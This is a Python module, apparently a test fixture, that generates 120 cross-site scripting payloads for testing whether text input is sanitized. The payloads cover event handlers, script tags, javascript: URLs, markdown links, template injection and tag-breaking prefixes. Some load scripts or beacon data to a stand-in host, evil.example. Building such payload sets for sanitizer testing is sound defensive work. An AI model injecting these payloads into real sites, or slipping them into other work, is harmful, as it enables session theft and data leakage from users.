"""What attackers write where a text is expected: 120 payloads, each of which would set window.pwned or ask a foreign host."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

RUN = "window.pwned=1"
HOST = "https://evil.example"
_HANDLERS = (
    "<img src=x onerror={run}>",
    "<img src=x onerror='{run}'//",
    "<svg onload={run}>",
    "<svg/onload={run}//",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set onbegin={run} attributeName=x to=1>",
    "<body onload={run}>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>",
    "<video><source onerror={run}>",
    "<audio src=x onerror={run}>",
    "<object data=x onerror={run}>",
    "<marquee onstart={run}>x</marquee>",
    "<iframe onload={run}></iframe>",
    "<style onload={run}></style>",
    "<link rel=stylesheet href=x onerror={run}>",
    "<p style=animation-name:x onanimationstart={run}>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
)
_SCRIPTS = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script\n>{run}</script\n>",
    "<script src={host}/x.js></script>",
    "<script type=module>import '{host}/x.js'</script>",
    "<svg><script>{run}</script></svg>",
    "<svg><script href={host}/x.js></script></svg>",
    "<noscript><p title='</noscript><script>{run}</script>'>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<template><script>{run}</script></template>",
)
_ADDRESSES = (
    "<a href='javascript:{run}'>締切</a>",
    "<a href='java&#9;script:{run}'>締切</a>",
    "<a href='&#x6a;avascript:{run}'>締切</a>",
    "<a href='data:text/html,<script>{run}</script>'>締切</a>",
    "<form action='javascript:{run}'><button>送信</button></form>",
    "<base href='javascript:{run}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<iframe src='javascript:{run}'></iframe>",
    "<object data='javascript:{run}'></object>",
    "[締切](javascript:{run})",
)
_FOREIGN = (
    "<img src={host}/leak.png>",
    "<img srcset='{host}/leak.png 1x'>",
    "<link rel=prefetch href={host}/leak>",
    "<link rel=preconnect href={host}>",
    "<style>@import '{host}/x.css';</style>",
    "<style>*{{background:url({host}/x)}}</style>",
    "<p style='background:url({host}/x)'>",
    "<video poster={host}/x>",
    "<form action={host}><button autofocus>送信</button></form>",
    "<meta http-equiv=refresh content='0;url={host}'>",
    "![締切]({host}/leak.png)",
    "<embed src={host}/x>",
)
_TEMPLATES = (
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "#{{{run}}}",
    "<%= {run} %>",
    "javascript:{run}",
    "';{run};//",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "＜script＞{run}＜/script＞",
)
_BREAKS = ('"><', "'><", "</textarea><", "</title><", "</template></figure></blockquote><", "--><", "]]><")


def _told() -> Iterator[str]:
    for one in (*_HANDLERS, *_SCRIPTS, *_ADDRESSES, *_FOREIGN, *_TEMPLATES):
        yield one.format(run=RUN, host=HOST)
    for escape, one in product(_BREAKS, (*_HANDLERS[:3], *_SCRIPTS[:2], *_ADDRESSES[:2], *_FOREIGN[:3])):
        yield escape + one.format(run=RUN, host=HOST).removeprefix("<")


PAYLOADS = tuple(dict.fromkeys(_told()))[:120]
